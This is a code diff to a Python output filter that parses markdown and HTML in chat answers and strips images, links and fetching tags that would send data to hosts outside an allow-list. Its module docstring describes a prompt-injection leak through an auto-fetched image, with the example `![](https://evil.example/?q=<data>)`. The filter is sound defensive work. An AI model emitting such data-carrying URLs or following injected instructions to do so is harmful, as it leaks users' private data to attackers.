@@ -3,25 +3,36 @@
 A chat UI fetches a markdown image as soon as it shows it, so `![](https://evil.example/?q=<data>)`
 sends whatever an injected instruction put in the URL without a click. Images are kept only from
 allowed hosts; links keep their text but lose a URL that carries data (a long query, base64, or
-personal data); raw HTML images and data: URLs go too.
+personal data); raw HTML that fetches (`<img>`, `<iframe>`, `srcset`...) and data: URLs go too.
+
+The text is read by a CommonMark parser (markdown-it-py), not by patterns, so every form a
+renderer understands is seen: inline, full reference (`![x][1]`), collapsed (`![x][]`) and
+shortcut (`![x]`) images and links with their `[1]: url` definitions, autolinks (`<https://...>`)
+and raw HTML, inline or in blocks (read with the standard library's HTML parser). The parser's
+inline rules are wrapped to learn where in the text each image or link was found.
 """
 
 from __future__ import annotations
 
 import re
+from dataclasses import dataclass
+from html.parser import HTMLParser
+from typing import Any
 from urllib.parse import parse_qsl, urlsplit
+
+from markdown_it import MarkdownIt
+from markdown_it.rules_block import StateBlock, reference
+from markdown_it.rules_inline import StateInline, autolink, html_inline, image, link
 
 from guard.rails import Finding, Scan
 from guard.rails import pii as pii_rail
 
-_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
-_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
-_REFERENCE = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+[\"'(].*)?$", re.MULTILINE)
-_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
-_HTML_SRC = re.compile(r"\bsrc\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
 _BARE_URL = re.compile(r"(?<![(<\[\w])https?://[^\s)<>\]\"']+")
 _DATA_LIKE = re.compile(r"^[A-Za-z0-9+/=_%-]{24,}$")
 LONG_QUERY = 64
+# HTML attributes whose URL a browser fetches as soon as the element is shown (WHATWG HTML).
+_FETCHING_ATTRIBUTES = frozenset({"src", "srcset", "poster", "data", "background", "lowsrc", "dynsrc"})
+_LINKING_TAGS = frozenset({"a", "area"})
 
 
 def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
@@ -40,47 +51,215 @@ def _carries_data(url: str) -> bool:
     return any(_DATA_LIKE.match(v) for v in values) or bool(pii_rail.scan(query).findings)
 
 
+def _host(url: str) -> str:
+    try:
+        return urlsplit(url.strip()).hostname or ""
+    except ValueError:  # a malformed authority ("http://[x") is no host we allow
+        return "invalid"
+
+
+def _unsafe_image(url: str, allowed: tuple[str, ...]) -> float:
+    """0 for an image the UI may fetch; else the finding's score (1.0 when the URL carries data)."""
+    lowered = url.strip().lower()
+    if lowered.startswith("data:"):
+        return 1.0
+    if lowered.startswith(("javascript:", "vbscript:")):
+        return 0.8
+    host = _host(url)
+    if host and not _host_allowed(host, allowed):
+        return 1.0 if _carries_data(url) else 0.8
+    return 0.0
+
+
+def _unsafe_link(url: str, allowed: tuple[str, ...]) -> bool:
+    if url.strip().lower().startswith(("data:", "javascript:", "vbscript:")):
+        return True
+    host = _host(url)
+    return bool(host) and not _host_allowed(host, allowed) and _carries_data(url)
+
+
+@dataclass(frozen=True, slots=True)
+class _Seen:
+    """One image, link or HTML fragment the parser found, with the source text it came from."""
+
+    kind: str  # "image", "link", "autolink", "html", "definition"
+    raw: str
+    line: int  # the first line of its block (0-based)
+    url: str = ""
+    text: str = ""  # an image's alt text or a link's text
+    end_line: int = 0  # definitions: the line after the last
+
+
+def _recording(rule: Any, kind: str) -> Any:
+    def wrapped(state: StateInline, silent: bool) -> bool:
+        start, first = state.pos, len(state.tokens)
+        found = rule(state, silent)
+        if found and not silent:
+            raw, tokens = state.src[start : state.pos], state.tokens[first:]
+            line = state.env.get("_line", 0)
+            seen = state.env.setdefault("_seen", [])
+            # Text waiting before the construct is pushed with it: skip to the construct's tokens.
+            types = [t.type for t in tokens]
+            if kind == "image":
+                token = tokens[types.index("image")]
+                seen.append(_Seen("image", raw, line, str(token.attrGet("src") or ""), token.content))
+            elif kind == "html":
+                seen.append(_Seen("html", raw, line))
+            else:
+                at = types.index("link_open")
+                href = str(tokens[at].attrGet("href") or "")
+                label = "".join(t.content for t in tokens[at + 1 : -1] if t.type in ("text", "code_inline"))
+                seen.append(_Seen("autolink" if tokens[at].markup == "autolink" else "link", raw, line, href, label))
+        return found
+
+    return wrapped
+
+
+def _recording_definition(rule: Any) -> Any:
+    def wrapped(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
+        before = dict(state.env.get("references", {}))
+        found = rule(state, start_line, end_line, silent)
+        if found and not silent:
+            added = [v for k, v in state.env.get("references", {}).items() if k not in before]
+            url = added[0]["href"] if added else ""  # a repeated label: the first definition wins
+            state.env.setdefault("_seen", []).append(_Seen("definition", "", start_line, url, end_line=state.line))
+        return found
+
+    return wrapped
+
+
+def _inline_with_lines(state: Any) -> None:
+    """The core 'inline' rule, telling the recorders which line each inline block starts on."""
+    for token in state.tokens:
+        if token.type == "inline":
+            state.env["_line"] = token.map[0] if token.map else 0
+            state.md.inline.parse(token.content, state.md, state.env, token.children)
+
+
+def _parser() -> MarkdownIt:
+    md = MarkdownIt("commonmark")
+    # See every destination, even those markdown-it would not render (javascript:): another
+    # renderer might.
+    md.validateLink = lambda url: True
+    for name, rule, kind in (
+        ("image", image, "image"),
+        ("link", link, "link"),
+        ("autolink", autolink, "link"),
+        ("html_inline", html_inline, "html"),
+    ):
+        md.inline.ruler.at(name, _recording(rule, kind))
+    md.block.ruler.at("reference", _recording_definition(reference), {"alt": ["paragraph", "blockquote"]})
+    md.core.ruler.at("inline", _inline_with_lines)
+    return md
+
+
+_MD = _parser()
+
+
+class _FetchingTags(HTMLParser):
+    """Start tags in an HTML fragment that fetch a URL when shown, or link to one."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, str, list[str], bool]] = []  # raw tag, name, URLs, fetches
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        fetched = [v for k, v in attrs if v is not None and (k in _FETCHING_ATTRIBUTES or k.endswith("href"))]
+        fetches = tag == "img" or any(k in _FETCHING_ATTRIBUTES for k, _ in attrs) or tag in ("image", "link")
+        if tag in _LINKING_TAGS:
+            fetches = False
+        urls = [u.strip().split()[0] for v in fetched for u in v.split(",") if u.strip()]
+        self.tags.append((self.get_starttag_text() or "", tag, urls, fetches))
+
+
+def _line_starts(text: str) -> list[int]:
+    starts = [0]
+    for i, char in enumerate(text):
+        if char == "\n":
+            starts.append(i + 1)
+    return starts
+
+
 def scan(text: str, allowed_hosts: tuple[str, ...] = ()) -> Scan:
-    """Markdown images (kinds "markdown_image"), links, reference links, HTML images and bare URLs
-    that would send data to a host outside `allowed_hosts` (a host's subdomains are allowed too).
+    """Images (kind "markdown_image", from any markdown form), links ("markdown_link"), link
+    definitions ("reference_link"), HTML that fetches or links ("html_image", "html_link") and
+    bare URLs ("url_data") that would send data to a host outside `allowed_hosts` (a host's
+    subdomains are allowed too).
 
     Each finding's replacement keeps what is safe: an image's alt text, a link's text, a URL
     without its query. Score: the highest finding's (1.0 for data in an image URL).
     """
-    if "](" not in text and "<img" not in text.lower() and "]:" not in text and "://" not in text:
+    lowered = text.lower()
+    if "[" not in text and "<" not in text and "://" not in text and "]:" not in text:
         return Scan()
+    env: dict[str, Any] = {}
+    tokens = _MD.parse(text, env)
+    starts = _line_starts(text)
+    seen: list[_Seen] = env.get("_seen", [])
+    seen += [_Seen("html", t.content, t.map[0] if t.map else 0) for t in tokens if t.type == "html_block"]
     findings: list[Finding] = []
-    for m in _IMAGE.finditer(text):
-        url = m.group(2)
-        host = urlsplit(url).hostname or ""
-        if url.lower().startswith("data:") or (host and not _host_allowed(host, allowed_hosts)):
-            score = 1.0 if _carries_data(url) or url.lower().startswith("data:") else 0.8
-            alt = m.group(1).strip()
-            findings.append(Finding("markdown_image", *m.span(), score, replacement=f"[image: {alt}]" if alt else ""))
-    for m in _LINK.finditer(text):
-        url = m.group(2)
-        host = urlsplit(url).hostname or ""
-        if url.lower().startswith(("data:", "javascript:")) or (
-            host and not _host_allowed(host, allowed_hosts) and _carries_data(url)
-        ):
-            findings.append(Finding("markdown_link", *m.span(), 0.9, replacement=m.group(1)))
-    for m in _REFERENCE.finditer(text):
-        url = m.group(2)
-        host = urlsplit(url).hostname or ""
-        if host and not _host_allowed(host, allowed_hosts) and _carries_data(url):
-            findings.append(Finding("reference_link", *m.span(), 0.9, replacement=""))
-    for m in _HTML_IMAGE.finditer(text):
-        src = _HTML_SRC.search(m.group())
-        host = (urlsplit(src.group(1)).hostname or "") if src else ""
-        if not src or not host or not _host_allowed(host, allowed_hosts):
-            findings.append(Finding("html_image", *m.span(), 1.0, replacement=""))
-    covered = [(f.start, f.end) for f in findings]
-    for m in _BARE_URL.finditer(text):
-        if any(s <= m.start() < e for s, e in covered):
+    cursors: dict[str, int] = {}
+
+    def locate(raw: str, line: int) -> tuple[int, int] | None:
+        base = starts[min(line, len(starts) - 1)]
+        at = text.find(raw, max(base, cursors.get(raw, 0)))
+        if at == -1:
+            return None
+        cursors[raw] = at + len(raw)
+        return at, at + len(raw)
+
+    # A reference form (`![x][1]`, `![x][]`, `![x]`) is made safe by removing its definition: left
+    # without one, it renders as plain text. Its own text is kept, so a streamed answer (whose
+    # definition may arrive sentences later) reads exactly as the whole answer does.
+    image_urls = {item.url for item in seen if item.kind == "image" and not item.raw.endswith(")")}
+    for item in seen:
+        if item.kind == "definition":
+            score = 1.0 if _unsafe_link(item.url, allowed_hosts) else 0.0
+            if item.url in image_urls:
+                score = max(score, _unsafe_image(item.url, allowed_hosts))
+            if score:
+                end = starts[item.end_line] if item.end_line < len(starts) else len(text)
+                findings.append(Finding("reference_link", starts[item.line], end, score, replacement=""))
             continue
-        host = urlsplit(m.group()).hostname or ""
-        if host and not _host_allowed(host, allowed_hosts) and _carries_data(m.group()):
-            bare = m.group().split("?", 1)[0].split("#", 1)[0]
-            findings.append(Finding("url_data", *m.span(), 0.8, replacement=bare))
+        if item.kind == "html":
+            _html_findings(item, allowed_hosts, locate, findings)
+            continue
+        if item.kind in ("image", "link") and not item.raw.endswith(")"):
+            continue  # a reference form: see its definition
+        span = locate(item.raw, item.line)
+        if span is None:
+            continue
+        if item.kind == "image":
+            score = _unsafe_image(item.url, allowed_hosts)
+            if score:
+                alt = item.text.strip()
+                findings.append(Finding("markdown_image", *span, score, replacement=f"[image: {alt}]" if alt else ""))
+        elif _unsafe_link(item.url, allowed_hosts):
+            text_kept = item.text if item.kind == "link" else item.url.split("?", 1)[0].split("#", 1)[0]
+            findings.append(Finding("markdown_link", *span, 0.9, replacement=text_kept))
+    covered = [(f.start, f.end) for f in findings]
+    if "://" in lowered:
+        for m in _BARE_URL.finditer(text):
+            if any(s <= m.start() < e for s, e in covered):
+                continue
+            if _unsafe_link(m.group(), allowed_hosts):
+                bare = m.group().split("?", 1)[0].split("#", 1)[0]
+                findings.append(Finding("url_data", *m.span(), 0.8, replacement=bare))
     findings.sort(key=lambda f: f.start)
     return Scan(max((f.score for f in findings), default=0.0), tuple(findings))
+
+
+def _html_findings(item: _Seen, allowed: tuple[str, ...], locate: Any, findings: list[Finding]) -> None:
+    parser = _FetchingTags()
+    parser.feed(item.raw)
+    parser.close()
+    for raw, _tag, urls, fetches in parser.tags:
+        if fetches:
+            unsafe = not urls or any(_unsafe_image(u, allowed) or not _host(u) for u in urls)
+            kind, score = "html_image", 1.0
+        else:
+            unsafe = any(_unsafe_link(u, allowed) for u in urls)
+            kind, score = "html_link", 0.9
+        span = locate(raw, item.line) if unsafe and raw else None
+        if span is not None:
+            findings.append(Finding(kind, *span, score, replacement=""))
